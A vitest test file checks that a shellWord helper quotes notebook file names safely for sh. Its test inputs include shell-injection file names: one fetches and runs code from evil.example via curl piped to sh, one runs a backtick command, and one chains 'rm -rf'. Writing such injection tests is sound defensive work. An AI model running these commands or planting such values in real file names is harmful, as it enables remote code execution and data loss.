import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellWord } from '../../../../website/components/notebook/shell-word.js';

describe('shellWord(word)', () => {
  it('leaves a plain file name as it is', () => {
    expect(shellWord('01-leaky-relu.ipynb')).toBe('01-leaky-relu.ipynb');
  });

  it.each(['$(curl -s evil.example|sh).ipynb', '`touch pwned`.ipynb', "it's; rm -rf x.ipynb", 'y2 name #1 %41.ipynb', 'a\nb', '*.ipynb', ''])('quotes %j so that sh reads it back as one word, unchanged', (word) => {
    const echoed = spawnSync('sh', ['-c', `printf %s ${shellWord(word)}`], { encoding: 'utf8' });
    expect(echoed.stdout).toBe(word);
  });
});
